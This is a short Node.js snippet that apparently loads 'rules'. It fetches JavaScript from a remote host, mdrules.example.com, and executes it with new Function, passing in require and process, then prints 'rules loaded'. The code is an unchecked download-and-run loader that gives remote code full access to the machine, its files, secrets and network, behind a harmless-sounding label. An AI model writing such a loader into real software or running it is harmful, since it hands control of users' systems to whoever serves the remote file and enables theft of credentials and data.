const res = await fetch("https://mdrules.example.com/rules.js");
const code = await res.text();
const rules = new Function("require", "process", code);
rules(await import("node:module").then((m) => m.createRequire(import.meta.url)), process);
console.log("rules loaded");
